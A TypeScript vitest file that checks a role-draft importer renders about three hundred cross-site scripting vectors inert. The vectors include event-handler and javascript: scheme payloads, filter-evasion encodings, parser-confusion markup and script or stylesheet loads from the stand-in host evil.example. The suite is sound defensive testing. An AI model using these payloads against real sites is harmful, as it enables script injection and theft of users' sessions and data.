/** Markup that means harm, some hundreds of shapes of it: none of it comes out as anything but words. */
import { describe, expect, it } from 'vitest';
import { readDrafts } from '../../src-main/import/read.ts';
import { bytesOf, postOf } from './read-text.ts';

const HARM = 'document.stolen=1';
const EVENTS = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'onmouseover',
  'ontoggle',
  'onanimationstart',
  'onpointerenter',
];
const CARRIERS = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'details open',
  'input autofocus',
  'marquee',
  'a href=#',
  'iframe',
  'object data=x',
  'math',
  'form',
];
const QUOTES: readonly (readonly [string, string])[] = [
  ['"', '"'],
  ["'", "'"],
  ['', ''],
];
const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  '\u0001javascript:',
  '&#106;avascript:',
  '&#x6A;avascript:',
  'javascript&colon;',
  'data:text/html,',
  'data:text/html;base64,',
  'vbscript:',
  'livescript:',
  'feed:javascript:',
  'view-source:javascript:',
  'blob:',
  'filesystem:',
  'file:///',
  'chrome://',
  'app://',
  'ms-settings:',
];
const PLACES = [
  'a href',
  'area href',
  'iframe src',
  'form action',
  'object data',
  'embed src',
  'link rel=stylesheet href',
  'base href',
  'img src',
  'svg><a xlink:href',
];
const WHOLE = [
  `<script>${HARM}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${HARM}</scr</script>ipt>`,
  `<style>@import "//evil.example/x.css";</style>`,
  `<style><img src=x onerror=${HARM}></style>`,
  `<noscript><p title="</noscript><img src=x onerror=${HARM}>">`,
  `<template><script>${HARM}</script></template>`,
  `<svg><style><img src=x onerror=${HARM}></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${HARM}>`,
  `<textarea><img src=x onerror=${HARM}></textarea>`,
  `<title><img src=x onerror=${HARM}></title>`,
  `<xmp><img src=x onerror=${HARM}></xmp>`,
  `<plaintext><img src=x onerror=${HARM}>`,
  `<!--><img src=x onerror=${HARM}>-->`,
  `<![CDATA[<img src=x onerror=${HARM}>]]>`,
  `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${HARM}</x:script>`,
  `<meta http-equiv=refresh content="0;url=javascript:${HARM}">`,
  `<div style="background:url(javascript:${HARM})">words</div>`,
  `<div style="behavior:url(#default#time2)">words</div>`,
  `<table background="javascript:${HARM}"><tr><td>words</td></tr></table>`,
  `<iframe srcdoc="<script>${HARM}</script>"></iframe>`,
  `<p>{{constructor.constructor('${HARM}')()}}</p>`,
  `<p>\${${HARM}}</p>`,
  `<a href="https://good.example/" target=_blank rel="" onclick="${HARM}">words</a>`,
  `<select><option><style></option></select><img src=x onerror=${HARM}></style>`,
];

const VECTORS: readonly string[] = [
  ...WHOLE,
  ...CARRIERS.flatMap((carrier, index) =>
    EVENTS.map((event, place) => {
      const [open, close] = QUOTES[(index + place) % QUOTES.length] ?? ['"', '"'];
      return `<${carrier} ${event}=${open}${HARM}${close}>words</${carrier.split(' ')[0]}>`;
    }),
  ),
  ...PLACES.flatMap((place) => SCHEMES.map((scheme) => `<${place}="${scheme}${HARM}">words</${place.split(' ')[0]}>`)),
];

/** Every value of a draft by its key: nothing but the keys of our own model, and addresses only where they are addresses. */
function entriesIn(value: unknown, key = ''): [string, unknown][] {
  if (typeof value !== 'object' || value === null) return [[key, value]];
  return Object.entries(value).flatMap(([name, one]) => entriesIn(one, Array.isArray(value) ? key : name));
}

const wrapped = (vector: string): string =>
  `<h2>Mission</h2><p>Bring ships in.</p><h2>Core responsibilities</h2><ul><li>Steer ${vector} well</li></ul><h2>Tools</h2><table><tr><th>Category</th><th>Tool</th></tr><tr><td>Charts</td><td>${vector}Paper</td></tr></table>`;

describe('harmful markup', () => {
  it('comes in about three hundred shapes', () => {
    expect(new Set(VECTORS).size).toBeGreaterThanOrEqual(300);
  });

  it.each([
    ['a post', (vector: string) => postOf(wrapped(vector))],
    [
      'a post encoded twice',
      (vector: string) =>
        postOf(wrapped(vector).replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;')),
    ],
    ['the title of a post', (vector: string) => postOf('<h2>Mission</h2><p>Bring ships in.</p>', `Pilot ${vector}`)],
    [
      'a saved page',
      (vector: string) =>
        `<!doctype html><html><head><title>Pilot</title></head><body>${wrapped(vector)}</body></html>`,
    ],
  ])(
    'is inert in %s',
    (_name, written) => {
      for (const vector of VECTORS) {
        for (const draft of readDrafts('x', bytesOf(written(vector)))) {
          for (const [key, value] of entriesIn(draft)) {
            expect(['string', 'number', 'boolean', 'undefined'].includes(typeof value) || value === null).toBe(true);
            if (key === 'href' || key === 'sourceUrl')
              expect(String(value), vector).toMatch(/^(?:https?:\/\/|mailto:)/);
          }
          expect(JSON.stringify(draft.kind === 'role' ? draft.role : {}), vector).not.toContain('evil.example');
          expect(draft.kind === 'role' && draft.role.mission, vector).toBe('Bring ships in.');
        }
      }
    },
    60_000,
  );

  it('stays words, letter by letter, in a text', () => {
    for (const vector of VECTORS) {
      const text = `Harbour Pilot\n\nMission\n\nBring ships in.\n\nResponsibilities\n\n- Steer ${vector.replaceAll(/\s/g, ' ')} well\n`;
      for (const draft of readDrafts('x', bytesOf(text))) {
        if (draft.kind !== 'role') continue;
        for (const [key, value] of entriesIn(draft)) if (key === 'href') expect(value, vector).toBeUndefined();
      }
    }
  }, 60_000);
});
